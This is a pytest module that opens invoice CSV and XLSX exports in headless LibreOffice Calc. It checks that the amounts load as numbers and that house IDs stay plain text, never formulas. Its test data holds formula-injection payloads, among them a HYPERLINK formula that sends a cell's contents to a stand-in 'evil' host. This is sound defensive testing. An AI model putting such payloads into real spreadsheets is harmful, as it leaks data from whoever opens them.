"""The exports as a treasurer opens them: LibreOffice Calc reads each CSV and XLSX file, and what it
loads is checked cell by cell (numbers are numbers, hostile text stays inert text, nothing is a
formula).

Needs Debian's ``libreoffice-calc-nogui``. A laptop without it skips this module; CI installs it
and sets ``LEG_TEST_LIBREOFFICE_REQUIRED=1``, so there it must be present.
"""

import os
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core import spreadsheets
from invoicing import exports

SOFFICE = shutil.which("soffice")
if SOFFICE is None and not os.environ.get("LEG_TEST_LIBREOFFICE_REQUIRED"):
    pytest.skip("LibreOffice missing (apt install libreoffice-calc-nogui)", allow_module_level=True)

# LibreOffice's CSV filter: comma-separated, double-quoted, UTF-8, from line 1, English number format.
CSV_IMPORT = "CSV:44,34,76,1,,1033"
HOSTILE_IDS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR")


def record(house_id: str, number: int, net_ct: str) -> dict:
    return {
        "invoice_id": f"INV-2026-{number:03d}",
        "house_id": house_id,
        "period_start": "2026-01-01T00:00:00Z",
        "period_end": "2026-01-31T23:59:59Z",
        "energy_exported_kwh": Decimal("450.5"),
        "energy_imported_kwh": Decimal("120.3"),
        "export_revenue_ct": Decimal("9010"),
        "import_cost_ct": Decimal("3007.5"),
        "net_amount_ct": Decimal(net_ct),
        "status": "pending",
    }


RECORDS = [record(house_id, number, "-6002.5") for number, house_id in enumerate(HOSTILE_IDS, start=1)]


def opened_in_calc(source: Path, tmp_path: Path, *, infilter: str = "") -> list[list]:
    """``source`` opened by LibreOffice Calc and saved as XLSX, read back: what Calc loaded."""
    profile = tmp_path / "lo-profile"  # one per test: parallel workers must not share a profile
    command = [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        command.append(f"--infilter={infilter}")
    out = tmp_path / "calc"
    command += ["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    sheet = load_workbook(out / f"{source.stem}.xlsx").active
    return [list(row) for row in sheet.iter_rows()]


def assert_loaded_inert(cells: list[list]) -> None:
    header, *rows = cells
    assert [cell.value for cell in header] == list(exports.SPEC_FIELDS)
    assert len(rows) == len(HOSTILE_IDS)
    for row, hostile in zip(rows, HOSTILE_IDS, strict=True):
        assert not any(cell.data_type == "f" for cell in row), f"a formula in row {row[0].value}"
        assert isinstance(row[1].value, str) and row[1].value.lstrip("'").strip() == hostile.strip()
        assert [cell.value for cell in row[4:9]] == [450.5, 120.3, 9010, 3007.5, -6002.5]


def test_calc_opens_the_invoice_csv_with_numbers_and_inert_house_ids(tmp_path):
    source = tmp_path / "invoices.csv"
    source.write_text(exports.records_to_csv(RECORDS), encoding="utf-8")

    assert_loaded_inert(opened_in_calc(source, tmp_path, infilter=CSV_IMPORT))


def test_calc_opens_the_invoice_xlsx_with_numbers_and_inert_house_ids(tmp_path):
    source = tmp_path / "invoices.xlsx"
    source.write_bytes(exports.records_to_xlsx(RECORDS))

    assert_loaded_inert(opened_in_calc(source, tmp_path))


def test_calc_keeps_a_negative_amount_a_number_not_text(tmp_path):
    source = tmp_path / "amounts.csv"
    source.write_text(spreadsheets.to_csv(["house", "net_amount_ct"], [["-house", Decimal("-0.5")]]))

    _header, row = opened_in_calc(source, tmp_path, infilter=CSV_IMPORT)

    assert row[0].value.lstrip("'") == "-house" and row[1].value == -0.5
